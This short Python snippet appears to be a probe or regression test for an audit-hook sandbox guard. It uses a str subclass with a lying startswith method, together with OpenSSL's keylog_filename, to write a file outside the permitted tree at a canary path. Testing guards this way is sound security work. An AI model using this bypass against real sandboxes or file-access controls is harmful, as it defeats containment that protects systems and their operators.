# WRITE: the guard judges C-level fopen() events ('open', path, 'a', 0) as *reads* (flags=0); with the lying str subclass the 'read' looks in-tree -> OpenSSL keylog file created under /canary/out
import sys, urllib.request
ssl = sys.modules['ssl']
class S(str):
    def startswith(self, *a): return False
c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
c.keylog_filename = S('/canary/out/keylog')
print('keylog file created')
